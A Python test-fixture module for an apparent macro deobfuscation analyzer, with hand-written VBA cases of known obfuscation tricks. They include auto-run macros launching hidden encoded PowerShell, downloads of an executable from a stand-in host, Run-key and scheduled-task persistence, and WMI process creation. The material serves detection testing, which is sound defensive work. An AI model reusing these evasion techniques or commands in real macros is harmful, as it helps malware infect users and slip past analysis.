"""Obfuscation techniques of macros, one case each: a benign macro and what it must be seen to do or say.

Every macro is written by hand after the technique's public description; addresses are reserved names.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from typing import Final

from noroshi.examine.forms import Control, Form

RUN: Final = "powershell -w hidden -e SQBFAFgA"
URL: Final = "http://one.example/a.exe"
WMI: Final = "winmgmts:win32_process"


def numbers(text: str, key: int = 0, plus: int = 0) -> str:
    """Code points, separated by commas."""
    return ", ".join(str((ord(letter) ^ key) + plus) for letter in text)


def marked(text: str, marker: str, size: int = 3) -> str:
    """The text with a marker between its parts."""
    return marker.join(text[at : at + size] for at in range(0, len(text), size))


def form(**texts: str) -> dict[str, Form]:
    """A form with one text box."""
    return {
        "UserForm1": Form("UserForm1", controls=(Control("TextBox1", "TextBox", "TextBox1", 1, **texts),))
    }


@dataclass(frozen=True)
class Case:
    """A technique.

    Attributes:
        wanted: Texts that must be arguments of effects.
        said: Texts that must be among those seen.
    """

    name: str
    code: str
    wanted: tuple[str, ...] = (RUN,)
    said: tuple[str, ...] = ()
    forms: dict[str, Form] = field(default_factory=dict)
    properties: dict[str, str] = field(default_factory=dict)
    more: dict[str, str] = field(default_factory=dict)


def opened(body: str) -> str:
    """A macro that starts by itself."""
    return f"Sub AutoOpen()\n{body}\nEnd Sub\n"


B64: Final = base64.b64encode(RUN.encode()).decode()
CASES: Final = (
    Case("concatenation", opened('Shell "power" & "shell -w hi" + "dden -e SQBFAFgA", 0')),
    Case("character-codes", opened("Shell " + " & ".join(f"Chr({ord(one)})" for one in RUN))),
    Case("wide-characters-hex", opened("Shell " + " & ".join(f"ChrW$(&H{ord(one):X})" for one in RUN))),
    Case("reversed", opened(f'Shell StrReverse("{RUN[::-1]}")')),
    Case("replaced-marker", opened(f'Shell Replace("{marked(RUN, "QzQ")}", "QzQ", "")')),
    Case("replaced-in-any-case", opened(f'Shell Replace("{marked(RUN, "qZq")}", "QZQ", "", 1, -1, vbTextCompare)')),
    Case("split-and-join", opened(f'Shell Join(Split("{marked(RUN, "][")}", "]["), "")')),
    Case("every-second-letter", opened(f'a = "{"".join(one + "x" for one in RUN)}"\nFor i = 1 To Len(a) Step 2\ns = s & Mid(a, i, 1)\nNext\nShell s')),
    Case("letters-backwards", opened(f'a = "{RUN[::-1]}"\nFor i = Len(a) To 1 Step -1\ns = s & Mid$(a, i, 1)\nNext i\nShell s')),
    Case("constants-and-publics", 'Public Const A1 = "powershell -w "\nPublic B1 As String\n' + opened('B1 = "hidden"\nC1') + 'Sub C1()\nShell A1 & B1 & " -e SQBFAFgA"\nEnd Sub'),
    Case("function-arguments", opened(f'Shell f("{RUN[20:]}", "{RUN[:20]}")') + "Function f(a, b)\nf = b & a\nEnd Function"),
    Case("named-arguments", opened(f'Shell f(b:="{RUN[20:]}", a:="{RUN[:20]}")') + 'Function f(a, Optional c = "", Optional b)\nf = a & c & b\nEnd Function'),
    Case("by-reference", opened(f'Dim s\ns = "x"\nf s\nShell s') + f'Sub f(ByRef t)\nt = "{RUN}"\nEnd Sub'),
    Case("xor-over-array", opened(f"a = Array({numbers(RUN, 23)})\nFor i = LBound(a) To UBound(a)\ns = s & Chr(a(i) Xor 23)\nNext\nShell s")),
    Case("shifted-codes-while", opened(f"a = Array({numbers(RUN, 0, 7)})\nWhile i <= UBound(a)\ns = s + Chr(a(i) - 7)\ni = i + 1\nWend\nShell s")),
    Case("for-each-over-split", opened(f'For Each c In Split("{numbers(RUN).replace(", ", "-")}", "-")\ns = s & Chr(CInt(c))\nNext c\nShell s')),
    Case("hexadecimal-pairs", opened(f'h = "{RUN.encode().hex()}"\nDo While i < Len(h)\ns = s & Chr(Val("&H" & Mid(h, i + 1, 2)))\ni = i + 2\nLoop\nShell s')),
    Case("base64-by-msxml", opened(f'Set x = CreateObject("MSXML2.DOMDocument")\nSet n = x.createElement("b")\nn.DataType = "bin.base64"\nn.Text = "{B64}"\nShell StrConv(n.nodeTypedValue, vbUnicode)')),
    Case("byte-array-by-msxml-hex", opened(f'With CreateObject("MSXML2.DOMDocument.6.0").createElement("h")\n.DataType = "bin.hex"\n.Text = "{RUN.encode().hex()}"\nDim b() As Byte\nb = .nodeTypedValue\nEnd With\nFor i = 0 To UBound(b)\ns = s & Chr(b(i))\nNext\nShell s')),
    Case("base64-by-hand", opened(f'Shell d("{B64}")') + """Function d(t)
k = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
Dim n As Long, i As Long
For i = 1 To Len(t) Step 4
n = 0
For j = 0 To 3
c = Mid(t, i + j, 1)
If c <> "=" Then n = n * 64 + InStr(1, k, c, vbBinaryCompare) - 1 Else n = n * 64
Next j
d = d & Chr(n \\ 65536) & Chr((n \\ 256) And 255) & Chr(n And 255)
Next i
d = Replace(d, Chr(0), "")
End Function"""),
    Case("emotet-inline", opened(f'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\nw.Create Join(Split("{marked(RUN, "//==")}", "//=="), ""), n, n, p')),
    Case("emotet-with-form", "Sub Document_open()\nJf83\nEnd Sub\n", more={"Module2": f"""Function Jf83()
On Error Resume Next
GoTo Kx1
Dim Q As Object
Set Q = Zz.OpenTextFile("C:\\junk.txt")
Kx1:
a = Join(Split(UserForm1.TextBox1.Text, "]["), "")
m = "wi][nm][gm][ts][:w][in][32][_p][ro][ce][ss"
Set o = GetObject(Join(Split(m, "]["), ""))
o.Create a, Nope, Nope, Pid
End Function"""}, forms=form(value=marked(RUN, "]["))),
    Case("form-tag", opened("Shell UserForm1.TextBox1.Tag"), forms=form(tag=RUN)),
    Case("form-tip-by-controls", opened('Shell UserForm1.Controls("TextBox1").ControlTipText'), forms=form(tip=RUN)),
    Case("form-code-by-me", "", more={"UserForm1": "Private Sub UserForm_Initialize()\nShell Me.TextBox1\nEnd Sub"}, forms=form(value=RUN)),
    Case("document-property", opened('Shell ActiveDocument.BuiltInDocumentProperties("Comments")'), properties={"Comments": RUN}),
    Case("document-property-by-number", opened("Shell ThisDocument.BuiltInDocumentProperties(wdPropertySubject).Value"), properties={"Subject": RUN}),
    Case("document-variable", opened('Shell ActiveDocument.Variables("v7").Value'), properties={"v7": RUN}),
    Case("cell", 'Sub Workbook_Open()\nShell Sheets("Sheet1").Range("B7").Value & Worksheets("Sheet1").Cells(2, 3)\nEnd Sub', properties={"Sheet1!B7": RUN[:9], "Sheet1!C2": RUN[9:]}),
    Case("shape-text", opened('Shell ActiveDocument.Shapes("t1").AlternativeText'), properties={"t1": RUN}),
    Case("environment-letters", opened(f'e = Environ("ComSpec")\nShell Mid(e, 21, 3) & " /c {RUN}"'), (f"cmd /c {RUN}",)),
    Case("goto-spaghetti", opened('GoTo c\na:\nShell s\nExit Sub\nb:\ns = s & "dden -e SQBFAFgA"\nGoTo a\nc:\ns = "powershell -w hi"\nGoTo b')),
    Case("dead-branch", opened(f'x = 5\nIf x * 2 > 100 Then\nShell "calc"\nElse\nShell "{RUN}"\nEnd If'), said=("calc",)),
    Case("dead-procedure", opened(f'Shell "{RUN}"') + 'Sub Never()\nu = "http://" & "two.example" & "/b"\nEnd Sub', said=("http://two.example/b",)),
    Case("select-machine", opened('n = 3\nDo Until n = 9\nSelect Case n\nCase 1 To 2: Shell s: n = 9\nCase 3: s = "powershell": n = 4\nCase Is > 3\ns = s & " -w hidden -e SQBFAFgA"\nn = 1\nEnd Select\nLoop')),
    Case("error-jump", opened(f'On Error GoTo h\nx = 1 / 0\nShell "calc"\nExit Sub\nh:\nShell "{RUN}"')),
    Case("with-shell", opened(f'With CreateObject("WScript.Shell")\n.Run "{RUN}", 0, False\nEnd With')),
    Case("call-by-name", opened(f'CallByName CreateObject("WScr" & "ipt.Shell"), "R" & "un", VbMethod, "{RUN}", 0')),
    Case("application-run", opened('Application.Run "Pay" & "load", "powershell"') + 'Sub Payload(a)\nShell a & " -w hidden -e SQBFAFgA"\nEnd Sub'),
    Case("moniker-by-class", opened(f'Set s = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\ns.Run "{RUN}"')),
    Case("shell-windows", opened('GetObject("new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}").Item().Document.Application.ShellExecute "powershell", "-w hidden -e SQBFAFgA", "C:\\", Null, 0')),
    Case("two-dimensions", opened(f'Dim a(1, 1) As String\na(0, 1) = "{RUN[:12]}"\na(1, 0) = "{RUN[12:]}"\nShell a(0, 1) & a(1, 0)')),
    Case("grown-array", opened("Dim a()\n" + "\n".join(f'ReDim Preserve a({at})\na({at}) = "{RUN[at * 4 : at * 4 + 4]}"' for at in range(8)) + '\nShell Join(a, "")')),
    Case("dictionary", opened(f'Set d = CreateObject("Scripting.Dictionary")\nd.Add "k", "{RUN[:9]}"\nd("m") = "{RUN[9:]}"\nShell d.Item("k") & d("m")')),
    Case("mid-assignment", opened(f's = String({len(RUN)}, "#")\nMid(s, 1, 10) = "{RUN[:10]}"\nMid(s, 11) = "{RUN[10:]}"\nShell s')),
    Case("choose-switch-iif", opened('Shell Choose(2, "a", "power") & Switch(1 = 2, "b", True, "shell") & IIf(3 > 2, " -w hidden", "c") & " -e SQBFAFgA"')),
    Case("byte-array-to-unicode", opened(f"Dim b(0 To {len(RUN) - 1}) As Byte\na = Array({numbers(RUN, 1)})\nFor i = 0 To UBound(a): b(i) = a(i) Xor 1: Next\nShell StrConv(b, 64)")),
    Case("gosub", opened('GoSub one\nShell s\nExit Sub\none:\ns = "powershell -w hidden -e SQBFAFgA"\nReturn')),
    Case("line-continuations", opened('Shell "power" & _\n  "shell" & _\n  " -w hidden" _\n  & " -e SQBFAFgA"')),
    Case("recursion", opened(f'Shell r("{RUN[::-1]}")') + 'Function r(t)\nIf Len(t) = 0 Then\nr = ""\nElse\nr = Right(t, 1) & r(Left(t, Len(t) - 1))\nEnd If\nEnd Function'),
    Case("module-prefix", opened("Shell Module9.Cmd") , more={"Module9": f'Property Get Cmd() As String\nCmd = VBA.Strings.StrReverse("{RUN[::-1]}")\nEnd Property'}),
    Case("download-xmlhttp-stream", opened(f'Set h = New MSXML2.XMLHTTP60\nh.Open "GET", StrReverse("{URL[::-1]}"), False\nh.send\nSet s = CreateObject("ADODB.Stream")\ns.Open\ns.Type = 1\ns.Write h.responseBody\ns.SaveToFile Environ("PUBLIC") & "\\a.exe", 2'), (URL, "C:\\Users\\Public\\a.exe")),
    Case("download-by-declare", f'Private Declare PtrSafe Function zz Lib "urlmon" Alias "URLDownloadToFileA" (ByVal p As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal l As Long) As Long\n' + opened(f'zz 0, "{URL}", "C:\\a.exe", 0, 0'), (URL, "C:\\a.exe")),
    Case("shell-execute-by-declare", 'Private Declare Function go Lib "shell32" Alias "ShellExecuteA" (ByVal h&, ByVal o$, ByVal f$, ByVal p$, ByVal d$, ByVal s&) As Long\n' + opened('go 0, "open", "powershell", "-e SQBFAFgA", "", 0'), ("powershell", "-e SQBFAFgA")),
    Case("file-and-start", opened('f = FreeFile\nOpen "C:\\Users\\Public\\a.bat" For Output As #1\nPrint #1, "start " & "calc"\nClose #1\nShell "C:\\Users\\Public\\a.bat"'), ("start calc", "C:\\Users\\Public\\a.bat")),
    Case("registry-run-key", opened('CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "C:\\a.exe", "REG_SZ"'), ("HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "upd", "C:\\a.exe")),
    Case("unknown-condition", opened(f'If Application.RecentFiles.Count < 3 Then Exit Sub\nShell "{RUN}"')),
    Case("excel4", 'Sub Workbook_Open()\nExecuteExcel4Macro "EXEC(""' + RUN + '"")"\nEnd Sub'),
    Case("scheduled-task", opened('Set s = CreateObject("Schedule.Service")\ns.Connect\nSet t = s.NewTask(0)\nSet a = t.Actions.Create(0)\na.Path = "powershell"\na.Arguments = "-e SQBFAFgA"\ns.GetFolder("\\").RegisterTaskDefinition "upd", t, 6, , , 3'), ("upd", "powershell -e SQBFAFgA")),
    Case("wmi-startup", opened(f'Set st = GetObject("winmgmts:Win32_ProcessStartup")\nSet c = st.SpawnInstance_\nc.ShowWindow = 0\nSet p = GetObject("winmgmts:\\\\.\\root\\cimv2").Get("Win32_Process")\np.Create "{RUN}", Null, c, i')),
    Case("record", "Private Type part\nhead As String\ntail(1) As String\nEnd Type\n" + opened(f'Dim p As part, q As part\np.head = "{RUN[:9]}"\nq = p\np.head = "calc"\nq.tail(1) = "{RUN[9:]}"\nShell q.head & q.tail(1)')),
    Case("records-in-an-array", "Type part\nt As String\nEnd Type\n" + opened(f'Dim p(1) As part\np(0).t = "{RUN[:9]}"\nWith p(1)\n.t = "{RUN[9:]}"\nEnd With\nShell p(0).t & p(1).t')),
    Case("event-of-a-control", f'Private Sub InkPicture1_Painted(ByVal h As Long, ByVal r As Object)\nShell "{RUN}"\nEnd Sub'),
)  # fmt: skip
